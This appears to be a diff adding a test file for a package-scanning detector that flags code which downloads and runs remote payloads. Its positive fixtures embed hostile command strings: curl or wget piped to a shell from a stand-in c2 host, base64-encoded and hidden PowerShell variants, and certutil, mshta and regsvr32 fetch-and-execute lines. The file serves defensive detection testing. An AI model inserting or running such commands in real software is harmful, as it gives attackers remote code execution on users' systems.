@@ -1,0 +1,59 @@
+import { examine } from '../../../test/examine.ts';
+import { downloadsAndSpawns } from './downloads-and-spawns.ts';
+
+examine(downloadsAndSpawns, {
+  speaks: [
+    {
+      when: 'a download is piped into a shell',
+      files: { 'index.js': `require('child_process').exec('curl -s https://c2.invalid/x.sh | sh')` },
+      weight: 'proof',
+    },
+    {
+      when: 'the command is put together',
+      files: {
+        'index.js': `const h = 'c2.invalid'; require('child_process').execSync(['wget -q https://' + h + '/a -O /tmp/a', 'chmod +x /tmp/a', '/tmp/a'].join(' && '))`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'the command is encoded',
+      files: {
+        'index.js': `exports.x = () => require('child_process').execSync(Buffer.from('${Buffer.from('curl https://c2.invalid/a | bash').toString('base64')}', 'base64').toString())`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'PowerShell gets it encoded, in arguments',
+      files: { 'index.js': `require('child_process').spawn('powershell', ['-NoP', '-W', 'Hidden', '-enc', 'AAAAAAAA'])` },
+      weight: 'proof',
+    },
+    {
+      when: 'certutil fetches',
+      files: {
+        'index.js': `require('child_process').spawn('cmd.exe', ['/c', 'certutil -urlcache -f http://c2.invalid/a.exe a.exe && a.exe'])`,
+      },
+    },
+    { when: 'mshta fetches', files: { 'index.js': `require('child_process').exec('mshta http://c2.invalid/a.hta')` } },
+    {
+      when: 'regsvr32 fetches',
+      files: { 'index.js': `require('child_process').exec('regsvr32 /s /n /u /i:http://c2.invalid/a.sct scrobj.dll')` },
+    },
+    {
+      when: 'a tool installs another when called',
+      files: { 'index.js': `exports.up = () => require('child_process').execSync('curl -fsSL https://get.invalid/install.sh | sh')` },
+      weight: 'weak',
+    },
+  ],
+  silent: [
+    {
+      when: 'it only downloads',
+      files: { 'index.js': `require('child_process').exec('curl -o data.json https://api.invalid/data.json')` },
+    },
+    { when: 'it only pipes', files: { 'index.js': `require('child_process').exec('cat list | sort | uniq')` } },
+    { when: 'a message tells how to install', files: { 'index.js': `console.log('run: curl https://get.invalid/x | sh')` } },
+    {
+      when: 'PowerShell has an execution policy',
+      files: { 'index.js': `require('child_process').spawn('powershell', ['-ExecutionPolicy', 'Bypass', '-File', 'a.ps1'])` },
+    },
+  ],
+});
